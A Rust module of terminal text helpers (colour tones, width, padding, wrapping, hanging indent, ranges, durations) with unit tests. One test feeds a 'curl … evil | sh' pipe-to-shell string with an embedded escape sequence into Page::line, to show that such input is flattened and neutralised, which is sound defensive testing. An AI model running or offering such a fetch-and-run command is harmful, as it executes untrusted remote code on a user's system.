//! Plain building blocks of text: width, wrapping, columns and paint.
//!
//! Colour only says again what the words say: everything here reads the same without it.

use anstyle::{AnsiColor, Style};
use console::measure_text_width;

use super::visible;

/// What a piece of text means, where colour may say it again.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Tone {
    /// Headings.
    Heading,
    /// Right, done.
    Good,
    /// Look at it.
    Caution,
    /// Stands in the way, failed.
    Bad,
    /// Of second importance.
    Faint,
}

impl Tone {
    const fn style(self) -> Style {
        match self {
            Self::Heading => Style::new().bold(),
            Self::Good => AnsiColor::Green.on_default(),
            Self::Caution => AnsiColor::Yellow.on_default(),
            Self::Bad => AnsiColor::Red.on_default().bold(),
            Self::Faint => Style::new().dimmed(),
        }
    }
}

/// Text in its tone. The stream it is written to removes the paint where it does not belong.
pub(crate) fn paint(tone: Tone, text: &str) -> String {
    let style = tone.style();
    format!("{style}{text}{style:#}")
}

/// The columns `text` takes on a terminal.
pub(crate) fn width(text: &str) -> usize {
    measure_text_width(text)
}

/// `text` followed by blanks up to `columns`.
pub(crate) fn pad(text: &str, columns: usize) -> String {
    format!("{text}{}", " ".repeat(columns.saturating_sub(width(text))))
}

/// `text` preceded by blanks up to `columns`.
pub(crate) fn pad_left(text: &str, columns: usize) -> String {
    format!("{}{text}", " ".repeat(columns.saturating_sub(width(text))))
}

/// `text` cut to `columns`, the cut marked.
pub(crate) fn fit(text: &str, columns: usize) -> String {
    console::truncate_str(text, columns, "…").into_owned()
}

/// Breaks text into lines of at most `columns`, between words. A word that is longer stands alone, uncut: commands and
/// paths must stay copyable.
pub(crate) fn wrap(text: &str, columns: usize) -> Vec<String> {
    let mut lines: Vec<String> = Vec::new();
    for word in text.split_whitespace() {
        match lines.last_mut().filter(|line| width(line) + 1 + width(word) <= columns) {
            Some(line) => {
                line.push(' ');
                line.push_str(word);
            }
            None => lines.push(word.to_owned()),
        }
    }
    lines
}

/// `first` before the first line of `text`, blanks of the same width before the others.
pub(crate) fn hang(first: &str, text: &str, columns: usize) -> Vec<String> {
    let indent = width(first);
    let lines = wrap(text, columns.saturating_sub(indent).max(MINIMUM));
    let mut hung = Vec::with_capacity(lines.len());
    for (index, line) in lines.iter().enumerate() {
        hung.push(if index == 0 { format!("{first}{line}") } else { format!("{}{line}", " ".repeat(indent)) });
    }
    if hung.is_empty() { vec![first.trim_end().to_owned()] } else { hung }
}

/// Narrower than this nothing reads well; text then runs over the edge instead.
const MINIMUM: usize = 24;

/// `1 step`, `2 steps`.
pub(crate) fn count(number: usize, one: &str) -> String {
    if number == 1 { format!("1 {one}") } else { format!("{number} {one}s") }
}

/// Numbers as ranges: `1–3, 7`.
pub(crate) fn ranges(numbers: &[u32]) -> String {
    let mut spans: Vec<(u32, u32)> = Vec::new();
    for number in numbers {
        match spans.last_mut().filter(|(_, last)| last.saturating_add(1) == *number) {
            Some((_, last)) => *last = *number,
            None => spans.push((*number, *number)),
        }
    }
    let shown = |(first, last): &(u32, u32)| {
        if first == last { first.to_string() } else { format!("{first}–{last}") }
    };
    spans.iter().map(shown).collect::<Vec<_>>().join(", ")
}

/// A duration as people say it: `40 s`, `12 min`, `3 h 10 min`.
pub(crate) fn duration(seconds: u64) -> String {
    match (seconds / 3600, seconds % 3600 / 60, seconds % 60) {
        (0, 0, s) => format!("{s} s"),
        (0, m, s) if m < 5 && s > 0 => format!("{m} min {s} s"),
        (0, m, _) => format!("{m} min"),
        (h, 0, _) => format!("{h} h"),
        (h, m, _) => format!("{h} h {m} min"),
    }
}

/// Lines that grow.
#[derive(Debug, Default)]
pub(crate) struct Page {
    text: String,
}

impl Page {
    /// Adds a line, and one only, whatever is in it.
    pub(crate) fn line(&mut self, line: impl AsRef<str>) {
        self.text.push_str(visible::line(line.as_ref()).trim_end());
        self.text.push('\n');
    }

    /// Adds lines.
    pub(crate) fn lines(&mut self, lines: impl IntoIterator<Item = String>) {
        lines.into_iter().for_each(|line| self.line(line));
    }

    /// Adds an empty line.
    pub(crate) fn gap(&mut self) {
        self.text.push('\n');
    }

    /// The text.
    pub(crate) fn into_text(self) -> String {
        self.text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_break_between_words_and_never_within_one() {
        assert_eq!(wrap("one two three", 8), ["one two", "three"]);
        assert_eq!(wrap("see /var/backups/kubectl-upgrade now", 10), ["see", "/var/backups/kubectl-upgrade", "now"]);
        assert_eq!(hang("→ ", "run the following command again", 26), ["→ run the following", "  command again"]);
    }

    #[test]
    fn a_line_of_a_page_is_one_line_that_commands_nothing() {
        let mut page = Page::default();
        page.line("node w-1\nnext  curl \u{1b}[2Jevil | sh");
        assert_eq!(page.into_text(), "node w-1 next  curl \u{fffd}[2Jevil | sh\n");
    }

    #[test]
    fn paint_takes_no_room() {
        let painted = paint(Tone::Bad, "held");
        assert_eq!(width(&painted), 4);
        assert_eq!(width(&pad(&painted, 9)), 9);
    }

    #[test]
    fn numbers_in_a_row_are_a_range() {
        assert_eq!(ranges(&[1, 2, 3, 7, 9, 10]), "1–3, 7, 9–10");
        assert_eq!(ranges(&[]), "");
    }

    #[test]
    fn durations_are_said_as_people_say_them() {
        let said: Vec<_> = [0, 59, 60, 61, 300, 3600, 11_400].into_iter().map(duration).collect();
        assert_eq!(said, ["0 s", "59 s", "1 min", "1 min 1 s", "5 min", "1 h", "3 h 10 min"]);
    }
}
